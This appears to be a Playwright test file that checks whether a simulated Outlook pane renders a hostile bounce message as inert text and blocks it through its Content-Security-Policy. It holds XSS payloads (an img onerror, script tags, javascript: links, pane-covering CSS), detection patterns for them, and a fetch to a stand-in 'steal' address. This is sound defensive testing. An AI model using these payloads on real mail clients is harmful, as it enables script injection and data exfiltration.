// A hostile bounce through the simulated Outlook: script, onerror, javascript: links, SVG onload,
// an iframe, CSS meant to hide or cover the pane, markup in the diagnostic line and a ~10 MB text
// part. Nothing from the message may run or become an element; its markup shows as text; the
// pane stays responsive. The click-to-response time is measured and printed, not asserted tightly.
import { hostileNdrMime } from "../fixtures/browser/hostileNdr";
import { screenshot } from "./support/chromium";
import { item, openOutlookPane, waitForHeadline, webProfile } from "./support/outlookPane";
import { servedPaneInChromium } from "./support/servedPane";

const env = servedPaneInChromium();
const HOSTILE = item("Undeliverable: <img src=x onerror=window.__pwned=true> invoice", hostileNdrMime(), "AAMkHostile");

test("a hostile 10 MB NDR is shown as inert text and the pane stays responsive", async () => {
  expect(HOSTILE.mime?.length).toBeGreaterThan(10 * 1024 * 1024);
  const guarded = await openOutlookPane(env.browser, env.server, 320, webProfile(HOSTILE));
  const { page } = guarded;
  try {
    const started = Date.now();
    const headline = await waitForHeadline(page, 60000);
    const readMs = Date.now() - started;
    // A bare 5.1.1 from a server that isn't Microsoft's gets the neutral entry (issue 11 §6).
    expect(headline).toMatch(/address doesn't exist|no mailbox for/i);

    // Nothing from the message ran, became an element, or reached the network.
    expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
    const planted = await page.evaluate(() => ({
      scripts: [...document.scripts].filter((s) => !s.src).length,
      images: document.querySelectorAll("img").length,
      iframes: document.querySelectorAll("iframe, svg[onload], form[action], base").length,
      handlers: [...document.querySelectorAll("*")].filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length,
      javascriptUrls: [...document.querySelectorAll("[href], [src]")].filter((el) =>
        /^\s*javascript:/i.test(el.getAttribute("href") ?? el.getAttribute("src") ?? ""),
      ).length,
      messageStyles: [...document.querySelectorAll("style")].filter((s) => /display:\s*none|z-index:\s*99999|Your account is locked/.test(s.textContent ?? ""))
        .length,
    }));
    expect(planted).toEqual({ scripts: 0, images: 0, iframes: 0, handlers: 0, javascriptUrls: 0, messageStyles: 0 });
    expect(guarded.blocked).toEqual([]);

    // The message's CSS didn't hide the pane, and its markup is on screen as text.
    expect(await page.locator("main").isVisible()).toBe(true);
    await expect(page.getByText("Showing: Undeliverable: <img src=x onerror=window.__pwned=true> invoice", { exact: false }).first().isVisible()).resolves.toBe(
      true,
    );
    await page.getByRole("button", { name: "Why we think so" }).first().click();
    await page
      .getByText(/<script>window\.__pwned=true<\/script>/)
      .first()
      .waitFor();

    // Responsive: a click on an accordion header opens its panel.
    const clickStarted = Date.now();
    await page.getByRole("button", { name: "Technical details" }).click();
    await page.getByRole("button", { name: "Technical details", expanded: true }).waitFor({ timeout: 10000 });
    const clickMs = Date.now() - clickStarted;
    await screenshot(page, "hostile-ndr-320");
    console.log(`hostile 10 MB NDR: diagnosis on screen after ${readMs} ms; a click answered in ${clickMs} ms`);
    expect(clickMs).toBeLessThan(10000);
    expect(guarded.cspViolations).toEqual([]);
    expect(guarded.errors.filter((e) => e.startsWith("pageerror"))).toEqual([]);
  } finally {
    await guarded.context.close();
  }
});

test("the pane's Content-Security-Policy refuses inline script, eval, remote images and non-HTTPS requests", async () => {
  const guarded = await openOutlookPane(env.browser, env.server, 450, webProfile(item("Undeliverable: hello", hostileNdrMime(4096))));
  const { page, context } = guarded;
  // eval must be tried by the page's own script: code the test injects through DevTools is exempt.
  const probe = "try { window.__evalRan = (0, eval)('true') === true; } catch (e) { window.__evalRan = false; }";
  await context.route("**/__test__/eval-probe.js", (route) => route.fulfill({ status: 200, contentType: "text/javascript", body: probe }));
  try {
    await waitForHeadline(page);
    await page.addScriptTag({ url: "/__test__/eval-probe.js" });
    const outcome = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.__pwned = true";
      document.head.append(script);
      const evalRan = (window as unknown as { __evalRan?: boolean }).__evalRan;
      const img = new Image();
      const imageLoaded = await new Promise<boolean>((done) => {
        img.onload = () => done(true);
        img.onerror = () => done(false);
        img.src = "https://tracker.invalid/pixel.png";
      });
      const fetched = await fetch("http://203.0.113.9/steal").then(
        () => true,
        () => false,
      );
      return { pwned: (window as unknown as { __pwned?: boolean }).__pwned === true, evalRan, imageLoaded, fetched };
    });
    expect(outcome).toEqual({ pwned: false, evalRan: false, imageLoaded: false, fetched: false });
    // Violation events arrive asynchronously (the fetch's after its promise rejected).
    for (let waited = 0; guarded.cspViolations.length < 4 && waited < 3000; waited += 50) await page.waitForTimeout(50);
    const directives = guarded.cspViolations.map((v) => v.split(":")[0]).sort();
    expect(directives).toEqual(["connect-src", "img-src", "script-src", "script-src-elem"]); // script-src: the eval
    // Refused by the policy, not by the test's network guard: nothing was even requested.
    expect(guarded.blocked).toEqual([]);
  } finally {
    await guarded.context.close();
  }
});
